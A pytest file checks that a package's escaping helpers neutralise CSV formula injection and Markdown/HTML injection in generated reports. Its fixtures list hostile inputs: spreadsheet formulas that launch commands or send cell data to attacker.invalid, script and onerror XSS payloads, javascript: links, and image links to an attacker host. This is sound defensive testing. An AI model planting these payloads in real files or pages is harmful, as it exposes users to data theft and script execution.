"""Data made inert for spreadsheets (CSV) and Markdown renderers (report.md)."""

import csv

import pytest

from sk_zerror._escape import (
    FORMULA_START,
    PLAIN_NUMBER,
    csv_cell,
    markdown_code,
    markdown_text,
    write_csv,
)

pd = pytest.importorskip("pandas")
markdown_it = pytest.importorskip("markdown_it")

# OWASP's CSV-injection examples, and the leading tab and carriage return.
FORMULAS = [
    '=HYPERLINK("http://attacker.invalid?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_formulas_get_a_leading_quote(cell):
    assert csv_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-2.5", "+3", "-1e-3", ".5", "plain", "a=b", ""])
def test_numbers_and_plain_text_stay_as_they_are(cell):
    assert csv_cell(cell) == cell


@pytest.mark.parametrize("value", [-2.5, -3, None, float("nan")])
def test_non_text_values_are_not_touched(value):
    assert csv_cell(value) is value


def test_csv_files_neutralise_cells_and_names_and_keep_numbers(tmp_path):
    frame = pd.DataFrame(
        {
            "=name": FORMULAS,
            "z_score": [-1.5, 2.0, -3.25, 0.0, 1.0, -7.0],
            "mixed": ["-4", -4.0, "@x", None, "ok", "=1"],
        }
    )
    write_csv(frame, tmp_path / "cells.csv")
    with open(tmp_path / "cells.csv", newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))
    assert rows[0] == ["'=name", "z_score", "mixed"]
    assert [row[0] for row in rows[1:]] == ["'" + cell for cell in FORMULAS]
    assert [float(row[1]) for row in rows[1:]] == frame["z_score"].tolist()
    assert [row[2] for row in rows[1:]] == ["-4", "-4.0", "'@x", "", "ok", "'=1"]
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START) or PLAIN_NUMBER.match(cell)
    # The frame itself is left as it was.
    assert frame.columns[0] == "=name" and frame.iloc[0, 0] == FORMULAS[0]


HOSTILE_MARKDOWN = [
    "![px](http://attacker.invalid/p.png)",
    '<img src=x onerror="alert(1)">',
    "<script>alert(1)</script>",
    "[click](javascript:alert(1))",
    "<http://attacker.invalid>",
    "&lt;img src=x&gt;",
    "a\n\n<img src=x onerror=alert(1)>",
    "`code` **bold** _em_ ~~gone~~ | pipe \\",
    "[ref]: http://attacker.invalid/r.png",
]


def render(text):
    return markdown_it.MarkdownIt("commonmark").enable("table").render(text)


@pytest.mark.parametrize("text", HOSTILE_MARKDOWN)
def test_markdown_text_renders_as_itself(text):
    flat = " ".join(text.replace("\r", " ").replace("\n", " ").split())
    for line in (f"- {markdown_text(text, block=True)}", markdown_text(text)):
        page = render(line)
        assert "<img" not in page and "<a " not in page and "<script" not in page
        assert "<em>" not in page and "<code>" not in page and "<del>" not in page
        # The text arrives whole, as text (the renderer escapes it for HTML).
        assert " ".join(flat.split()).replace("&", "&amp;").replace(
            "<", "&lt;"
        ).replace(">", "&gt;").replace('"', "&quot;") in " ".join(page.split())


@pytest.mark.parametrize("text", ["# title", "1. one", "- item", "---", "+ x"])
def test_markdown_text_starts_no_block(text):
    page = render(f"- {markdown_text(text, block=True)}")
    assert page.count("<li>") == 1 and "<h1>" not in page and "<ol>" not in page
    assert "<hr" not in page and text in page


def test_markdown_table_cells_hold_the_text():
    page = render(
        "| a |\n| --- |\n"
        + "\n".join(f"| {markdown_text(t)} |" for t in HOSTILE_MARKDOWN)
    )
    assert page.count("<td>") == len(HOSTILE_MARKDOWN)
    assert "<img" not in page and "<a " not in page and "<script" not in page


@pytest.mark.parametrize(
    "command",
    [
        "sk-zerror audit data.csv --target y",
        "sk-zerror audit 'x`y``z.csv' --target y",
        "sk-zerror audit d.csv --target 'y\n\n<img src=x onerror=alert(1)>'",
        "`",
    ],
)
def test_markdown_code_is_one_verbatim_span(command):
    page = render(f"Command: {markdown_code(command)}")
    assert page.count("<code>") == 1 and "<img" not in page
    shown = command.replace("\n", "\\n")
    escaped = shown.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    assert f"<code>{escaped}</code>" in page
